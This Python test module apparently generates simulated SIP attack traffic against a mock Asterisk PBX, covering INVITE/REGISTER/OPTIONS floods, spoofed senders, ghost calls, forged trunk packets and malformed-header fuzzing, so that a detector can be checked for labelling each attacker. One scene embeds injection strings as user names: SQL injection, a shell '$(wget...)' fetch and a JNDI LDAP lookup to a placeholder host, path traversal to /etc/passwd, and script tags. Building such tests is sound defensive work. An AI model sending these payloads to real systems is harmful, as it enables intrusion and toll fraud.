"""Floods, forged senders, ghost calls and exploits."""

from __future__ import annotations

from tests.blind import makes
from tests.blind.label import Call, Capture
from tests.blind.offices import Office, office, phone, server
from tests.blind.roster import HOUR, scene
from tests.blind.speak import request
from tests.blind.talk import send
from tests.blind.tools import DISGUISED, SIPCLI, SIPPTS, disguise, tool


def _busy(c: Capture, count: int = 15) -> Office:
    here = office(c.net, makes.ASTERISK, "192.0.2.10", count, nat="203.0.113.40")
    here.come_in(8 * HOUR, 100)
    here.work(8.2 * HOUR, 10 * HOUR, 30)
    return here


@scene()
def invite_flood_from_one_address(c: Capture) -> None:
    """inviteflood: three thousand INVITEs to 201 in fifteen seconds, the office at work."""
    here = _busy(c)
    t = tool(
        c.net,
        disguise("Elite 1.0 Brcm Callctrl/1.5.1.0 MxSF/v3.2.6.26"),
        "198.51.100.90",
        here.pbx,
        9,
    )
    for k in range(3000):
        t.invite(9 * HOUR + 0.005 * k, "201", *((401,) if k % 40 == 0 else ()), user="")
    c.attacker("198.51.100.90", "flood", may="scan toll_fraud", proof="none")


@scene()
def invite_flood_from_forged_senders(c: Capture) -> None:
    """Two thousand addresses, one INVITE each, in twenty seconds."""
    here = _busy(c)
    for k in range(2000):
        address = f"198.{18 + k % 2}.{c.rng.randrange(256)}.{1 + c.rng.randrange(254)}"
        tool(c.net, DISGUISED, address, here.pbx, 1024 + c.rng.randrange(60000)).invite(
            9 * HOUR + 0.01 * k, "201", user=str(c.rng.randrange(10**6))
        )
    c.attacker(
        "198.18.0.0/15",
        "flood",
        may="scan toll_fraud enumeration spoofed_call",
        proof="none",
        least="suspect",
        share=0.5,
        count=1900,
    )


@scene()
def register_flood_from_one_address(c: Capture) -> None:
    here = _busy(c)
    t = tool(c.net, SIPPTS, "198.51.100.91", here.pbx, 5999)
    for k in range(4000):
        t.register(
            9 * HOUR + 0.004 * k, "201", *((401,) if k % 50 == 0 else ()), challenge=k % 50 == 0
        )
    c.attacker("198.51.100.91", "flood", may="scan password_guessing enumeration", proof="none")


@scene()
def options_flood_with_the_address_of_a_victim(c: Capture) -> None:
    """Reflection: 2500 OPTIONS in five seconds in the name of somebody who never asked."""
    here = _busy(c)
    t = tool(c.net, SIPPTS, "203.0.113.222", here.pbx, 80)
    for k in range(2500):
        t.options(9 * HOUR + 0.002 * k, 200)
    c.attacker("203.0.113.222", "flood", may="scan", proof="none", least="suspect")


@scene()
def injections_into_names(c: Capture) -> None:
    """SQL, shell, JNDI and script in user names and User-Agent; 401 and 404 in answer."""
    here = _busy(c)
    words = (
        "'or''='",
        "1' UNION SELECT secret FROM sip--",
        "%27%20or%201=1--",
        "a`id`",
        "$(wget${IFS}198.51.100.92/x)",
        "100;drop%20table%20users",
        "<script>alert(1)</script>",
        "${jndi:ldap://198.51.100.92/a}",
        "../../../../etc/passwd",
        "admin'--",
    )
    t = tool(c.net, disguise("Zoiper"), "198.51.100.92", here.pbx, 5060)
    for k in range(30):
        if k % 2:
            t.invite(9 * HOUR + 4 * k, words[k // 2 % 10], 404, user=words[(k + 3) % 10])
        else:
            t.register(9 * HOUR + 4 * k, words[k // 2 % 10], 401, challenge=True)
    c.attacker(
        "198.51.100.92",
        "exploit",
        may="scan enumeration password_guessing toll_fraud",
        proof="none",
    )


@scene()
def sql_in_one_invite(c: Capture) -> None:
    """A single INVITE whose caller is 'or''=' to an Israeli number."""
    here = _busy(c)
    tool(c.net, SIPCLI, "198.51.100.93", here.pbx, 5060).invite(
        9 * HOUR, "00972595897084", user="'or''='", challenge=401, echo=True
    )
    c.attacker("198.51.100.93", "exploit toll_fraud", may="scan", proof="dialog", least="suspect")


@scene()
def fuzzing_by_a_stranger(c: Capture) -> None:
    """Malformed INVITEs from the Internet: format strings, huge numbers, headers of four thousand letters."""
    here = _busy(c)
    t = tool(c.net, DISGUISED, "198.51.100.94", here.pbx, 5060)
    bad = (
        "%s%n%s%n%s%n",
        "A" * 4000,
        "-1",
        "\xff\xfe" * 40,
        "99999999999999999999",
        "\x00\x01\x02",
        "<" * 300,
        '"' * 200,
    )
    for k in range(80):
        value = bad[k % 8]
        where = (
            "Via",
            "From",
            "To",
            "CSeq",
            "Content-Length",
            "Contact",
            "Max-Forwards",
            "Call-ID",
        )[k // 8 % 8]
        me = "<sip:100@192.0.2.10>"
        asked = request(
            t.agent,
            "INVITE",
            "sip:100@192.0.2.10",
            f"{me};tag={makes.hexa(c.rng, 8)}",
            me,
            makes.hexa(c.rng, 16),
            1,
        )
        lines = [
            f"{where}: {value}".encode("latin-1")
            if line.startswith(where.encode() + b":")
            else line
            for line in asked.octets.split(b"\r\n")
        ]
        send(c.net, 9 * HOUR + 1.5 * k, t.agent, here.pbx, b"\r\n".join(lines))
    c.attacker("198.51.100.94", "exploit", may="scan flood toll_fraud enumeration", proof="none")


@scene()
def ghost_calls_to_a_telephone(c: Capture) -> None:
    """A phone at an open address rings at night: INVITEs from `100` and `1001` by sipcli and svwar's like."""
    pbx = server(c.net, makes.ASTERISK, "192.0.2.10")
    one = phone(c.net, makes.GRANDSTREAM, "192.0.2.77", "204", pbx)
    Office(c.net, pbx, [one], server(c.net, makes.CARRIER, "198.51.100.20")).come_in(0, 10)
    for n in range(3):
        t = tool(c.net, disguise("sipcli/v1.8"), f"198.19.200.{10 + n}", one, 5070 + n)
        for k in range(8):
            t.invite(
                HOUR * (2 + n) + 90 * k,
                ("100", "1000", "1001", "200", "101", "0", "300", "102")[k],
                100,
                180,
                404,
                user="100" if n else "1001",
                echo=True,
            )
        c.attacker(
            f"198.19.200.{10 + n}",
            "",
            may="scan enumeration toll_fraud spoofed_call",
            proof="dialog",
        )


@scene()
def a_stranger_pretends_to_be_reception(c: Capture) -> None:
    """INVITEs straight to telephones, past the PBX, in the name of its own extension 200."""
    pbx = server(c.net, makes.ASTERISK, "192.0.2.10")
    phones = [
        phone(c.net, makes.YEALINK, f"192.0.2.{100 + n}", str(200 + n), pbx) for n in range(8)
    ]
    here = Office(c.net, pbx, phones, server(c.net, makes.CARRIER, "198.51.100.20"))
    here.come_in(0, 20)
    here.work(100, 1500, 15)
    for n, one in enumerate(phones):
        t = tool(c.net, disguise("FPBX-16.0.40.7(18.20.2)"), "198.51.100.95", one, 5060)
        t.invite(
            2000 + 60 * n,
            one.user,
            100,
            180,
            486 if n % 2 else 200,
            user="200",
            from_host="192.0.2.10",
            echo=True,
        )
    c.attacker("198.51.100.95", "spoofed_call", may="scan enumeration toll_fraud", least="suspect",
               calls=tuple(Call(str(n)) for n in (200, 202, 204, 206)))  # fmt: skip


@scene()
def forged_packets_of_our_trunk(c: Capture) -> None:
    """Somebody sends a REGISTER sweep in the carrier's name, while the carrier brings calls."""
    here = _busy(c)
    assert here.trunk is not None
    for n in range(20):
        here.come(9 * HOUR + 100 * n, here.phones[n % 15], "+4930" + makes.dec(c.rng, 7), talk=50)
    t = tool(c.net, disguise("friendly-scanner", SIPPTS), "198.51.100.20", here.pbx, 5060)
    for k in range(300):
        t.register(9.2 * HOUR + 0.1 * k, str(100 + k), 401, challenge=True)
    c.forged("198.51.100.20")


@scene()
def forged_guesses_of_a_home_worker(c: Capture) -> None:
    """To have him blocked: REGISTERs with made-up credentials in the name of a user who works at home."""
    here = _busy(c)
    home = phone(c.net, makes.SNOM, "203.0.113.93", "230", here.pbx)
    from tests.blind.talk import register

    for k in range(8):
        register(c.net, 8 * HOUR + 1700 * k, home, here.pbx)
    t = tool(c.net, SIPCLI, "203.0.113.93", here.pbx, 5060)
    for k in range(200):
        me = f"<sip:{200 + k % 30}@192.0.2.10>"
        fake = f'Digest username="{200 + k % 30}", realm="asterisk", nonce="{makes.hexa(c.rng, 8)}", uri="sip:192.0.2.10", response="{makes.hexa(c.rng, 32)}", algorithm=MD5'
        asked = request(
            t.agent,
            "REGISTER",
            "sip:192.0.2.10",
            f"{me};tag={makes.dec(c.rng, 9)}",
            me,
            makes.hexa(c.rng, 20),
            1,
            [("Authorization", fake), ("Expires", "60")],
        )
        t.fire(
            9 * HOUR + 2.0 * k,
            asked,
            401,
            more=[("WWW-Authenticate", f'Digest realm="asterisk",nonce="{makes.hexa(c.rng, 32)}"')],
        )
    c.forged("203.0.113.93")


@scene()
def bye_and_cancel_by_strangers(c: Capture) -> None:
    """One address sends BYEs for calls it never had: 481; a hundred in a minute."""
    here = _busy(c)
    t = tool(c.net, DISGUISED, "198.51.100.97", here.pbx, 5060)
    for k in range(100):
        me = f"<sip:{201 + k % 15}@192.0.2.10>"
        asked = request(
            t.agent,
            "BYE",
            f"sip:{201 + k % 15}@192.0.2.10",
            f"<sip:100@192.0.2.10>;tag={makes.dec(c.rng, 8)}",
            f"{me};tag={makes.hexa(c.rng, 8)}",
            makes.hexa(c.rng, 32),
            2,
        )
        t.fire(9 * HOUR + 0.6 * k, asked, 481)
    # A proxy that took over from a dead one would do the same.
    c.unclear("198.51.100.97")
